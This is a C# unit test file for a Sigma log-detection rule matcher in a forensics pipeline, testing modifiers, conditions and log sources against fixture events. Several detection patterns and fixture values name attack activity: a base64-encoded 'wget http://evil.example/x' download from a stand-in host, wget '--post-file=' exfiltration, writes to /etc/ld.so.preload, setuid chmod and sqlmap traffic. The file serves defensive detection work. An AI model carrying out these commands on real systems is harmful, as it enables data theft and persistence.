using Forensics.Pipeline.Sigma;

namespace Forensics.Tests.Sigma;

/// <summary>Each modifier and condition form of the specification, one by one, against the events of <see cref="SigmaCase"/>.</summary>
public sealed class SigmaMatchingTests(SigmaCase c) : IClassFixture<SigmaCase>
{
    private const string Linux = "product: linux";
    private const string Auditd = "product: linux\nservice: auditd";
    private const string Web = "category: webserver";

    [Fact]
    public void The_fixture_holds_every_line_it_wrote()
    {
        var all = c.Markers(Linux, "any:\n    message|re: '.'\ncondition: any");
        Assert.Equal(Enumerable.Range(1, 13).Select(i => $"M{i:00}").Concat(["M20", "M21"]), all);
    }

    [Fact]
    public void Keywords_are_searched_in_the_message_case_insensitively_and_or_ed() =>
        Assert.Equal(["M01", "M05"], c.Markers(Linux, "keywords:\n    - 'INVALID USER admin'\n    - 'new user'\ncondition: keywords"));

    [Fact]
    public void Keywords_under_all_must_all_be_present() =>
        Assert.Equal(["M05"], c.Markers(Linux, "keywords:\n    '|all':\n        - 'new user'\n        - 'UID=0,'\ncondition: keywords"));

    [Fact]
    public void A_map_is_and_and_a_list_of_values_is_or()
    {
        Assert.Equal(["M11"], c.Markers(Web, "selection:\n    cs-method: POST\n    sc-status: 200\ncondition: selection"));
        Assert.Equal(["M11", "M13"], c.Markers(Web, "selection:\n    sc-status:\n        - 200\n        - 201\ncondition: selection"));
    }

    [Fact]
    public void A_list_of_maps_is_or() =>
        Assert.Equal(["M10", "M12"], c.Markers(Web, "selection:\n    - sc-status: 404\n    - c-useragent|startswith: sqlmap\ncondition: selection"));

    [Fact]
    public void Plain_values_match_the_whole_field_case_insensitively()
    {
        Assert.Equal(["M10", "M12", "M13"], c.Markers(Web, "selection:\n    cs-method: get\ncondition: selection"));
        Assert.Empty(c.Markers(Web, "selection:\n    cs-method: GE\ncondition: selection"));
    }

    [Fact]
    public void Cased_matches_case_sensitively()
    {
        Assert.Empty(c.Markers(Web, "selection:\n    cs-method|cased: get\ncondition: selection"));
        Assert.Equal(["M10", "M12", "M13"], c.Markers(Web, "selection:\n    cs-method|cased: GET\ncondition: selection"));
    }

    [Fact]
    public void Contains_startswith_endswith()
    {
        Assert.Equal(["M11"], c.Markers(Web, "selection:\n    cs-uri-query|contains: 'tm/util'\ncondition: selection"));
        Assert.Equal(["M10"], c.Markers(Web, "selection:\n    c-uri|startswith: '/.GIT'\ncondition: selection"));
        Assert.Equal(["M13"], c.Markers(Web, "selection:\n    cs-uri-stem|endswith: '.exe'\ncondition: selection"));
        Assert.Equal(["M13"], c.Markers(Web, "selection:\n    c-uri-extension: 'exe'\ncondition: selection"));
    }

    [Fact]
    public void Wildcards_star_and_question_mark_and_their_escapes()
    {
        Assert.Equal(["M12"], c.Markers(Web, "selection:\n    c-useragent: 'sql?ap/*'\ncondition: selection"));
        // '*' and '?' escaped are plain characters; the message of M06 holds "C:\Windows\*".
        Assert.Equal(["M06"], c.Markers(Linux, @"keywords:
    - 'C:\Windows\\\*'
condition: keywords"));
        Assert.Empty(c.Markers(Linux, @"keywords:
    - 'C:\Windows\\\?'
condition: keywords"));
    }

    [Fact]
    public void Sql_like_metacharacters_in_values_are_plain_text()
    {
        Assert.Equal(["M06"], c.Markers(Linux, "keywords:\n    - '100% done_ok'\ncondition: keywords"));
        Assert.Empty(c.Markers(Linux, "keywords:\n    - '100% done_oX'\ncondition: keywords"));
        Assert.Empty(c.Markers(Linux, "keywords:\n    - 'path_C'\ncondition: keywords")); // '_' is not "any character"
    }

    [Fact]
    public void Null_and_exists()
    {
        Assert.Equal(["M13"], c.Markers(Web, "selection:\n    c-useragent: null\ncondition: selection"));
        Assert.Equal(["M10", "M11", "M12"], c.Markers(Web, "selection:\n    c-useragent|exists: true\ncondition: selection"));
        Assert.Equal(["M13"], c.Markers(Web, "selection:\n    c-useragent|exists: false\ncondition: selection"));
    }

    [Fact]
    public void Not_is_true_for_events_without_the_field() =>
        // M13 has no user agent: "not filter" must keep it (a SQL NULL must not turn the negation into NULL).
        Assert.Equal(["M11", "M13"], c.Markers(Web, "selection:\n    cs-method|exists: true\nfilter:\n    c-useragent|contains: 'a'\ncondition: selection and not filter"));

    [Fact]
    public void Regular_expressions_are_case_sensitive_unless_i()
    {
        Assert.Empty(c.Markers(Web, "selection:\n    c-useragent|re: '^SQLMAP/[0-9.]+$'\ncondition: selection"));
        Assert.Equal(["M12"], c.Markers(Web, "selection:\n    c-useragent|re|i: '^SQLMAP/[0-9.]+$'\ncondition: selection"));
        Assert.Equal(["M12"], c.Markers(Web, "selection:\n    c-useragent|re: 'map/1\\.7'\ncondition: selection")); // unanchored search
    }

    [Fact]
    public void Cidr_matches_ipv4_and_ipv6_networks()
    {
        Assert.Equal(["M12", "M13"], c.Markers(Web, "selection:\n    c-ip|cidr:\n        - '10.0.0.0/8'\n        - '192.168.0.0/16'\ncondition: selection"));
        Assert.Equal(["M11"], c.Markers(Web, "selection:\n    c-ip|cidr: '2001:db8::/32'\ncondition: selection"));
        Assert.Equal(["M10"], c.Markers(Web, "selection:\n    c-ip|cidr: '203.0.113.9/32'\ncondition: selection"));
    }

    [Fact]
    public void Numeric_comparisons()
    {
        Assert.Equal(["M12"], c.Markers(Web, "selection:\n    sc-status|gt: 404\ncondition: selection"));
        Assert.Equal(["M10", "M12"], c.Markers(Web, "selection:\n    sc-status|gte: 404\ncondition: selection"));
        Assert.Equal(["M11", "M13"], c.Markers(Web, "selection:\n    sc-status|lt: 404\ncondition: selection"));
        Assert.Equal(["M11", "M13"], c.Markers(Web, "selection:\n    sc-status|lte: 200\ncondition: selection"));
    }

    [Fact]
    public void Neq_and_fieldref()
    {
        Assert.Equal(["M10", "M12", "M13"], c.Markers(Web, "selection:\n    cs-method|neq: POST\ncondition: selection"));
        Assert.Equal(["M11"], c.Markers(Web, "selection:\n    cs-method: POST\n    c-uri|fieldref: cs-uri-query\ncondition: selection"));
        Assert.Empty(c.Markers(Web, "selection:\n    c-uri|fieldref: cs-method\ncondition: selection"));
    }

    [Fact]
    public void Base64_and_base64offset()
    {
        // M07 carries base64("wget http://evil.example/x").
        Assert.Equal(["M07"], c.Markers(Linux, "keywords:\n    '|base64|contains': 'wget http://evil.example/x'\ncondition: keywords"));
        foreach (var inner in new[] { "http://evil", "ttp://evil", "tp://evil.ex" })
            Assert.Equal(["M07"], c.Markers(Linux, $"keywords:\n    '|base64offset|contains': '{inner}'\ncondition: keywords"));
        Assert.Empty(c.Markers(Linux, "keywords:\n    '|base64offset|contains': 'https://evil'\ncondition: keywords"));
    }

    [Fact]
    public void Base64offset_gives_the_three_variants_of_the_specification() =>
        // The specification's reference implementation (pySigma) on "/bin/bash".
        Assert.Equal(["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"], SigmaModifiers.Base64Offsets("/bin/bash"u8.ToArray()));

    [Fact]
    public void Windash_matches_every_dash_form() =>
        Assert.Equal(["M08"], c.Markers(Linux, "keywords:\n    '|windash|contains|all':\n        - ' -enc '\n        - ' /enc '\n        - ' \u2013enc'\ncondition: keywords"));

    [Fact]
    public void Conditions_one_of_all_of_them_not_and_brackets()
    {
        const string searches = "sel_a:\n    cs-method: POST\nsel_b:\n    sc-status: 500\nfilter_x:\n    sc-status: 200\n";
        Assert.Equal(["M11", "M12"], c.Markers(Web, searches + "condition: 1 of sel_*"));
        Assert.Empty(c.Markers(Web, searches + "condition: all of sel_*"));
        Assert.Equal(["M11", "M12", "M13"], c.Markers(Web, searches + "condition: 1 of them"));
        Assert.Equal(["M12"], c.Markers(Web, searches + "condition: 1 of sel_* and not 1 of filter_*"));
        Assert.Equal(["M12"], c.Markers(Web, searches + "condition: (sel_a or sel_b) and not filter_x"));
        Assert.Equal(["M11", "M12"], c.Markers(Web, searches + "condition: sel_a or sel_b and not filter_x")); // and binds tighter
        Assert.Equal(["M10", "M11", "M13"], c.Markers(Web, searches + "condition: not sel_b")); // every web event but M12
        Assert.Equal(["M11", "M12"], c.Markers(Web, searches + "condition:\n    - sel_a\n    - sel_b")); // a list of conditions is or-ed
    }

    [Fact]
    public void Them_leaves_out_identifiers_starting_with_underscore() =>
        Assert.Equal(["M11"], c.Markers(Web, "sel_a:\n    cs-method: POST\n_helper:\n    sc-status: 500\ncondition: all of them"));

    [Fact]
    public void Auditd_fields_match_any_record_of_a_grouped_event()
    {
        Assert.Equal(["M20"], c.Markers(Auditd, "selection:\n    type: EXECVE\n    a0: wget\n    a1|startswith: '--post-file='\ncondition: selection"));
        Assert.Equal(["M20"], c.Markers(Auditd, "selection:\n    type: PATH\n    name: /etc/ld.so.preload\ncondition: selection"));
        Assert.Equal(["M20"], c.Markers(Auditd, "selection:\n    key: susp_activity\ncondition: selection"));
        Assert.Equal(["M21"], c.Markers(Auditd, "selection:\n    type: EXECVE\n    a0: chmod\n    a1|contains: '+s'\ncondition: selection"));
        Assert.Equal(["M20", "M21"], c.Markers(Auditd, "selection:\n    type: SYSCALL\n    exe|startswith: '/usr/bin/'\ncondition: selection"));
        Assert.Equal(["M21"], c.Markers(Auditd, "selection:\n    nametype: null\ncondition: selection")); // M21 has no PATH record
        Assert.Equal(["M20"], c.Markers(Auditd, "selection:\n    nametype: null\nkeep:\n    type: EXECVE\ncondition: keep and not selection"));
    }

    [Fact]
    public void Log_sources_select_their_events()
    {
        Assert.Equal(["M01", "M02", "M03"], c.Markers("product: linux\nservice: sshd", "any:\n    message|re: '.'\ncondition: any"));
        Assert.Equal(["M04"], c.Markers("product: linux\nservice: sudo", "any:\n    message|re: '.'\ncondition: any"));
        Assert.Equal(["M10", "M11", "M12", "M13"], c.Markers("category: proxy", "any:\n    cs-method|exists: true\ncondition: any"));
        Assert.Equal(["M20", "M21"], c.Markers(Auditd, "any:\n    type|exists: true\ncondition: any"));
    }
}
